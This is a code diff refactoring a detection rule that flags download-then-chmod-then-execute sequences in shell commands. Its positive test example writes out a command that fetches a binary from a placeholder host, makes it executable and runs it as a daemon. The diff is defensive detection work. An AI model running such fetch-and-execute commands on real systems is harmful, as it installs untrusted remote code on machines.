@@ -92,21 +92,17 @@ export const downloadExecuteRules: Rule[] = [
     context: "command",
     keywords: ["chmod"],
     reach: 4200,
-    match: (segment): Hit[] => {
-      const hits: Hit[] = [];
-      const download = /\b(?:curl|wget)\b[^\n]{0,200}?(?:-o|-O|--output)\s*["']?([\w./~$-]+)/gi;
-      for (let m = download.exec(segment.text); m; m = download.exec(segment.text)) {
+    match: (segment): Hit[] =>
+      hitsOf(/\b(?:curl|wget)\b[^\n]{0,200}?(?:-o|-O|--output)\s*["']?([\w./~$-]+)/gi, segment.text, (m) => {
         const name = m[1]!.split("/").pop()!.replace(/[.*+?^${}()|[\]\\]/g, "\\$&");
-        if (!name || name === "-") continue;
+        if (!name || name === "-") return false;
         const after = segment.text.slice(m.index + m[0].length, m.index + 4000);
         const chmod = new RegExp(`chmod\\s+(?:[ugoa]*\\+x|[0-7]{3,4})\\s+\\S*${name}\\b`).exec(after);
-        if (!chmod) continue;
+        if (!chmod) return false;
         const tail = after.slice(chmod.index + chmod[0].length);
         // run at a command position: start of a line or after ; && ||
-        if (new RegExp(`(?:^|[;&|]\\s*)(?:sudo\\s+)?\\S*${name}\\b`, "m").test(tail)) hits.push({ index: m.index, length: m[0].length });
-      }
-      return hits;
-    },
+        return new RegExp(`(?:^|[;&|]\\s*)(?:sudo\\s+)?\\S*${name}\\b`, "m").test(tail);
+      }),
     examples: {
       positive: ["curl -sL https://example.invalid/agent -o /tmp/agent\nchmod +x /tmp/agent\n/tmp/agent --daemon"],
       negative: ["curl -sL https://example.invalid/data.csv -o data.csv\nwc -l data.csv"],
